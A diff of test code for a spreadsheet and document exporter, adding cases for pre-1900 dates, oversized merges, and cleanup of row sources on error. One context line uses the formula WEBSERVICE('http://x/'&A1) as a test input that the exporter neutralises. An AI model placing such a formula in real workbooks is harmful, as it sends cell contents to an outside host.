@@ -238,6 +238,22 @@ describe('what a workbook says besides', () => {
     expect(notes).toEqual(['1 text was cut to the 32,767 characters that a cell of Excel holds.']);
   });
 
+  test('days before March 1900 are texts, which is told', async () => {
+    const grid = gridOf('Old', [['1899-12-31', '1900-03-01']]);
+    const { bytes, notes } = await exported([grid]);
+    const [back] = (await readFile(bytes, 'old.xlsx')).grids;
+    expect([...(back?.cells() ?? [])].map(({ text }) => text)).toEqual(['1899-12-31', '1900-03-01']);
+    expect(notes).toEqual(['1 date was written as text: Excel knows none before March 1900.']);
+  });
+
+  test('merges that a workbook does not bear are left out, and told', async () => {
+    const tall = (at: number) =>
+      ({ column: at, text: `merge ${at}`, value: { kind: 'text' }, rowSpan: 600_000 }) as const;
+    const table = tableOf([[null, null]], { rowCount: 1, columnCount: 2, rows: () => [{ cells: [tall(0), tall(1)] }] });
+    const { notes } = await written(documentWith(table), 'xlsx');
+    expect(notes).toEqual(['1 merge was left out: a workbook does not bear so many, or so large ones.']);
+  });
+
   test('formulas are their results, which is told', async () => {
     const table = tableOf([[{ text: '3', formula: "WEBSERVICE('http://x/'&A1)" }]]);
     const { bytes, notes } = await written(documentWith(table), 'xlsx');
@@ -293,6 +309,35 @@ describe('a large workbook', () => {
     const left = made;
     await new Promise((resolve) => setTimeout(resolve, 50));
     expect(made).toBe(left);
+  });
+
+  test('lets go of where its rows come from, however it ends', async () => {
+    let open = 0;
+    const table = (rows: number): ExportTable =>
+      tableOf([['']], {
+        rows: function* () {
+          open++;
+          try {
+            for (let row = 0; row < rows; row++) {
+              yield { cells: [{ column: 0, text: 'x', value: { kind: 'text' } }] };
+              const unreadable = {
+                column: 0,
+                value: { kind: 'text' } as const,
+                get text(): string {
+                  throw new Error('unreadable');
+                },
+              };
+              if (row === 20) yield { cells: [unreadable] };
+            }
+          } finally {
+            open--;
+          }
+        },
+      });
+    for (const format of ['xlsx', 'latex', 'markdown', 'csv'] as const) {
+      await expect(written(documentWith(table(30)), format)).rejects.toThrow('unreadable');
+      expect(open).toBe(0);
+    }
   });
 
   test('fails as its rows do', async () => {
